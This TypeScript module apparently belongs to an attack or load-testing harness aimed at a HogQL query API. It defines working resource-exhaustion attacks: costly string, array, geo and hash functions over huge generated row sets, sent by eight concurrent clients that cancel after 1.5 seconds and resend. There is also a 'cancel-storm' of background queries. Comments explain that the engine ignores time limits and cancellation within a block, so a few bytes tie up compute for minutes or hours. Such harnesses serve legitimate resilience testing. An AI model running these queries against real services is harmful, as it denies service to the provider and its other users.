import type { Attack } from "../attack.types.js"
import { type Attacker, inTurn } from "../attacker.js"

/**
 * Calls that work for minutes or hours on one block of rows, within which the engine looks neither at the time limit nor at
 * whether the query was cancelled. Few bytes and no stored row are needed.
 */
const EDIT_DISTANCE =
  "sum(levenshteinDistance(repeat(toString(number), 900), repeat(toString(number + 7), 900))) FROM numbers(60000)"
const OTHERS = [
  "sum(editDistance(repeat(toString(number), 900), repeat(toString(number + 7), 900))) FROM numbers(60000)",
  "sum(damerauLevenshteinDistance(repeat(toString(number), 300), repeat(toString(number + 7), 300))) FROM numbers(60000)",
  "sum(jaroWinklerSimilarity(repeat(toString(number), 3000), repeat(toString(number + 7), 3000))) FROM numbers(60000)",
  "sum(length(base58Encode(repeat(toString(number), 2000)))) FROM numbers(60000)",
  "sum(length(extractAllGroups(repeat(toString(number), 2000), '(1*)(2*)(3*)'))) FROM numbers(60000)",
  "sum(ngramDistance(repeat(toString(number), 3000), repeat(toString(number + 7), 3000))) FROM numbers(60000)",
]
const ARRAYS = [
  "sum(arrayFold((acc, x) -> acc + x, range(1000), toUInt64(0))) FROM numbers(60000)",
  "sum(arraySum(arrayMap(x -> arrayCount(y -> y % (x + 1) = 0, range(2000)), range(2000)))) FROM numbers(20)",
  "sum(length(h3kRing(geoToH3(10.0 + number / 100000, 20.0, 5), 300))) FROM numbers(300)",
  "sum(length(geohashesInBox(0.0, 0.0, 3.0 + number / 100000, 3.0, 6))) FROM numbers(2000)",
]
const NUMBERS = [
  "count() FROM numbers(1000000) AS a CROSS JOIN numbers(1000000) AS b WHERE a.number * b.number % 7 = 3",
  "sum(multiplyDecimal(toDecimal(number, 9), toDecimal(number + 1, 9), 9)) FROM numbers(100000000000)",
  "sum(toInt256(number) * toInt256(number) % toInt256(997)) FROM numbers(100000000000)",
  "sum(cityHash64(SHA512(toString(number)))) FROM numbers(100000000000)",
]

const CLIENTS = 8
const CANCELLED_AFTER_MS = 1_500

/** Asks, cancels, and asks the next: the number makes each another query, so that none waits for an equal one. */
const askAll = (attacker: Attacker, signal: AbortSignal, calls: readonly string[]): Promise<void> =>
  attacker.repeat(CLIENTS, signal, async (index) => {
    const query = { kind: "HogQLQuery", query: `SELECT ${index}, ${inTurn(calls, index)}` }
    const id = `function-${index}`
    const cancel = async (): Promise<void> => {
      await attacker.rest(CANCELLED_AFTER_MS, signal)
      await attacker.send({ method: "DELETE", path: attacker.path(`query/${id}/`), headers: attacker.bearer }, signal)
    }
    const asked = attacker.sendOwn("query/", { query, refresh: "force_blocking", client_query_id: id }, signal)
    await Promise.all([asked, cancel()])
  })

/** Functions of HogQL that cost far more than their text. */
export const FUNCTION_ATTACKS: readonly Attack[] = [
  {
    name: "edit-distance",
    needs: "personal key",
    what: "Eight clients ask for levenshteinDistance of long texts made by the query, cancel after 1.5 s and ask again.",
    run: (attacker, signal) => askAll(attacker, signal, [EDIT_DISTANCE]),
  },
  {
    name: "text-functions",
    needs: "personal key",
    what: "The same with six other functions of long texts: edit distances, n-grams, base58, groups of a pattern.",
    run: (attacker, signal) => askAll(attacker, signal, OTHERS),
  },
  {
    name: "array-functions",
    needs: "personal key",
    what: "The same with folds, nested lambdas, rings of H3 and boxes of geohashes, which make large arrays.",
    run: (attacker, signal) => askAll(attacker, signal, ARRAYS),
  },
  {
    name: "endless-numbers",
    needs: "personal key",
    what: "The same with cross joins, decimals, 256-bit numbers and hashes over 100 billion made-up rows.",
    run: (attacker, signal) => askAll(attacker, signal, NUMBERS),
  },
  {
    name: "cancel-storm",
    needs: "personal key",
    what: "Ten edit distances a second are started in the background and cancelled half a second later.",
    run: async (attacker, signal) => {
      let count = 0
      await attacker.repeat(5, signal, async () => {
        const id = `storm-${count++}`
        const query = { kind: "HogQLQuery", query: `SELECT ${count}, ${EDIT_DISTANCE}` }
        await attacker.sendOwn("query/", { query, refresh: "force_async", client_query_id: id }, signal)
        await attacker.rest(500, signal)
        await attacker.send({ method: "DELETE", path: attacker.path(`query/${id}/`), headers: attacker.bearer }, signal)
      })
    },
  },
]
